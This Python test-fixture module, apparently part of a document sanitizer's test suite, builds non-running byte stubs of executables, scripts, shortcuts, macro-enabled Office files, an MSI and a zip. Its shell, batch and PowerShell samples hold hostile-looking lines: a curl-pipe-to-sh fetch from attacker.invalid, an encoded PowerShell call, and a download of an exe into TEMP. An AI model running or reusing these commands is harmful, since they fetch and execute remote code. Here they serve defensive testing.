"""Programs, scripts, shortcuts, macro documents and archives, as hostile authors send them.

Each builder returns the bytes of a small file that opens the way the real
thing does (the same signature, the same directory names), enough for every
check that looks at it; none of them runs.
"""

from __future__ import annotations

import struct

from tests.sanitize.dirty_office import plain_docx, rezip, unzip
from tests.sanitize.hostile_samples import Member, build_zip


def pe() -> bytes:
    """A Windows program: the DOS stub's MZ, e_lfanew, then the PE signature."""
    stub = b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 0x80)
    stub += b"This program cannot be run in DOS mode.\r\n$".ljust(0x80 - len(stub), b"\x00")
    return stub + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + bytes(300)


def elf() -> bytes:
    """A 64-bit little-endian Linux program header."""
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(300)


def mach_o() -> bytes:
    """A 64-bit macOS program header (MH_MAGIC_64, little-endian)."""
    return b"\xcf\xfa\xed\xfe" + struct.pack("<IIIII", 0x01000007, 3, 2, 0, 0) + bytes(300)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://attacker.invalid/x | sh\n"


def batch_script() -> bytes:
    """Plain text a cleaner would happily clean as text: only the name makes it a program."""
    return b"@echo off\r\npowershell -enc SQBFAFgA\r\n"


def powershell_script() -> bytes:
    return b"Invoke-WebRequest http://attacker.invalid/a.exe -OutFile $env:TEMP\\a.exe\r\n"


def shortcut() -> bytes:
    """A Windows shortcut (.lnk): header size 0x4C and the shell link class id."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return struct.pack("<I", 0x4C) + clsid + struct.pack("<I", 0x20) + bytes(200)


# --- A legacy Office file (OLE compound file), with or without a VBA project -----------

_FREE, _END, _FAT, _NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR = 512
_STREAM = 4096  # at the mini-stream cutoff, so every stream lives in ordinary sectors


def _entry(name: str, kind: int, *, child: int = _NONE, left: int = _NONE, right: int = _NONE,
           start: int = _END, size: int = 0) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return struct.pack("<64sHBBIII16sIQQIQ", encoded, len(encoded), kind, 1, left, right, child,
                       bytes(16), 0, 0, 0, start, size)


def ole_document(*, macros: bool) -> bytes:
    """A Word 97-2003 document as a compound file: WordDocument, and with `macros` the
    Macros/VBA/_VBA_PROJECT storages Word writes for a VBA project."""
    streams = [b"\xec\xa5" + "A legacy draft 草稿".encode("utf-16-le")]
    entries = [_entry("Root Entry", 5, child=1),
               _entry("WordDocument", 2, left=2 if macros else _NONE, start=3,
                      size=_STREAM)]
    if macros:
        streams.append(b"\xcc\x61\xff\xff" + bytes(8))
        first = 3 + _STREAM // _SECTOR
        entries += [_entry("Macros", 1, child=3), _entry("VBA", 1, child=4),
                    _entry("_VBA_PROJECT", 2, start=first, size=_STREAM)]
    entries += [_entry("", 0, start=0)] * (2 * _SECTOR // 128 - len(entries))  # two sectors
    directory = b"".join(entries)
    fat = [_FAT, 2, _END]
    for _ in streams:
        start = len(fat)
        fat += [start + i + 1 for i in range(_STREAM // _SECTOR - 1)] + [_END]
    fat += [_FREE] * (_SECTOR // 4 - len(fat))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
              + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096,
                            _END, 0, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    body = b"".join(stream.ljust(_STREAM, b"\x00") for stream in streams)
    return header + struct.pack(f"<{_SECTOR // 4}I", *fat) + directory + body


def windows_installer() -> bytes:
    """A Windows Installer package (.msi): a compound file whose root entry carries the
    installer's class id (the root entry is the first in the directory, sector 1)."""
    data = bytearray(ole_document(macros=False))
    root = 2 * _SECTOR  # past the header and the FAT sector
    data[root + 80:root + 96] = bytes.fromhex("84100c0000000000c000000000000046")
    return bytes(data)


# --- Macro-enabled OOXML, and an archive ------------------------------------------------

MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def docm(*, cleanable: bool = True) -> bytes:
    """A macro-enabled Word document: word/vbaProject.bin (a VBA project in OLE form),
    declared in the content types and related from the document. Without `cleanable`
    its main part is missing, which the cleaner refuses as damaged."""
    members = unzip(plain_docx("A draft with a macro 宏"))
    types = members["[Content_Types].xml"]
    types = types.decode() if isinstance(types, bytes) else types
    members["[Content_Types].xml"] = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        MACRO_TYPE).replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.'
                    'vbaProject"/></Types>')
    rels = members["word/_rels/document.xml.rels"]
    rels = rels.decode() if isinstance(rels, bytes) else rels
    members["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdVba" Type="{VBA_REL}" Target="vbaProject.bin"/></Relationships>')
    members["word/vbaProject.bin"] = ole_document(macros=True)
    if not cleanable:
        del members["word/document.xml"]
    return rezip(members, stored=())


def zip_of_programs() -> bytes:
    return build_zip([Member.stored("setup.exe", pe()),
                      Member.stored("readme.txt", b"Open setup.exe to read the draft.")])
